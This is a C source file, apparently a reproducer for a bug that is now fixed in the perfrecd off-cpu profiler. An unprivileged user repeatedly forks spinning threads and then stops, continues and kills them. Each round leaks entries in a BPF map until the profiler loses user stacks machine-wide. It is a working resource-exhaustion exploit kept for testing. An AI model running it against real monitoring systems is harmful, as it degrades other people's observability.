/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An unprivileged user against perfrecd --off-cpu: threads whose long
 * block does not end in a system call's exit, then exit without passing
 * one.  Each round forks a process of THREADS threads spinning in user
 * space, stops it (SIGSTOP: each thread blocks in TASK_STOPPED, far
 * longer than the threshold), continues it (each thread switches back in
 * and returns to user space from the signal, not from a system call),
 * and kills it (each thread dies from the signal, in do_exit(), again
 * without a system call's exit).  Before perfrecd closed them, each such
 * block left an entry in the BPF program's `pending` map for good: 1024
 * of them and every long block on the machine lost its user stack.
 *
 *   offcpu-attack ROUNDS THREADS STOP_MS
 */
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/wait.h>

static pthread_barrier_t start;

static void *spin(void *arg)
{
	(void)arg;
	pthread_barrier_wait(&start);
	for (;;)
		;	/* no system call: the thread leaves user space only for interrupts */
	return NULL;
}

static void pause_ms(long ms)
{
	struct timespec t = { ms / 1000, (ms % 1000) * 1000000 };

	nanosleep(&t, NULL);
}

/* A process of threads spinning in user space, all started when it returns. */
static pid_t spawn(int threads)
{
	int fds[2];
	pid_t pid;
	char c = 0;

	if (pipe(fds) < 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		pthread_t t;

		close(fds[0]);
		if (pthread_barrier_init(&start, NULL, (unsigned int)threads + 1))
			_exit(1);
		for (int i = 0; i < threads; i++)
			if (pthread_create(&t, NULL, spin, NULL))
				_exit(1);
		pthread_barrier_wait(&start);
		(void)!write(fds[1], &c, 1);
		for (;;)
			pause();
	}
	close(fds[1]);
	if (pid > 0 && read(fds[0], &c, 1) != 1) {
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		pid = -1;
	}
	close(fds[0]);
	return pid;
}

int main(int argc, char **argv)
{
	int rounds, threads;
	long stop_ms;

	if (argc != 4 || (rounds = atoi(argv[1])) < 1 || (threads = atoi(argv[2])) < 1 ||
	    (stop_ms = atol(argv[3])) < 1) {
		fprintf(stderr, "usage: offcpu-attack ROUNDS THREADS STOP_MS\n");
		return 2;
	}
	for (int r = 0; r < rounds; r++) {
		pid_t pid = spawn(threads);

		if (pid < 0) {
			perror("offcpu-attack: fork or pthread_create");
			return 1;
		}
		kill(pid, SIGSTOP);
		pause_ms(stop_ms);
		kill(pid, SIGCONT);
		pause_ms(stop_ms);	/* each thread runs again, in user space */
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
	}
	return 0;
}
